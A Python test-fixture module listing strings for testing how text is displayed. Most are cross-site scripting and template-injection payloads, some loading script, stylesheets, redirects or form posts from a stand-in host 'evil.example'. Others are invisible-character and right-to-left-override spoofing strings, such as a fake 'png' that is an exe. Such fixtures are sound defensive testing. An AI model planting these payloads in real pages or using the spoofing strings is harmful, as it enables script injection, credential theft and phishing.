"""Texts that want to be more than text."""

EVIL = "http://evil.example"
SCRIPT = "window.hacked=1"

MARKUP = [
    f"<script>{SCRIPT}</script>",
    f"<img src=x onerror={SCRIPT}>",
    f'"><svg onload={SCRIPT}>',
    f"'-{SCRIPT}-'",
    f"javascript:{SCRIPT}//",
    f"</title></textarea></style><script src={EVIL}/x.js></script>",
    f"<link rel=stylesheet href={EVIL}/x.css><style>@import '{EVIL}/y.css';body{{display:none}}</style>",
    f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe><base href={EVIL}/>',
    f"<meta http-equiv=refresh content='0;url={EVIL}/'><form action={EVIL}><button>Send</button></form>",
    f"${{{SCRIPT}}} {{{{constructor.constructor('{SCRIPT}')()}}}} <%= {SCRIPT} %>",
    f"<details open ontoggle={SCRIPT}><audio src onerror={SCRIPT} autofocus onfocus={SCRIPT}>",
    "&lt;b&gt;&amp;&#60;i&#62;&nbsp;",
    "__proto__",
    "constructor",
]
"""Markup, scripts and templates: shown character by character."""

UNSEEN = {
    "\u202egnp.exe\u202c": "RLOgnp.exePDF",
    "\u2067\u05d0\u2069\u200f\u061c": "RLI\u05d0PDIRLMALM",
    "a\x00b\x01\x07\x1b[31m\x7f\x9b": "a␀b␁␇␛[31m␡U+009B",
    "pay\u200bpal\ufeff\u00ad": "payZWSPpalBOMSHY",
    "one\u2028two\u2029three": "oneLStwoPSthree",
    "a\U000e0041\U000e007fb": "aU+E0041U+E007Fb",
    "x\u3164y\u034fz": "xU+3164yU+034Fz",
}
"""Texts with what cannot be seen, and what is seen of them."""

SHAPED = ["👨\u200d👩\u200d👧", "می\u200cخواهم", "שלום, world", "Z̴̙̤̞͉͚̯̞̠͍͑ͫ̓ͪ̂ͫ̽", "W" * 400, "🇦🇲 Բարեւ"]
"""Texts that are only unusual: emoji joined to one, a script that needs a joiner, long words, both directions."""

CORPUS = [*MARKUP, *UNSEEN, *SHAPED]
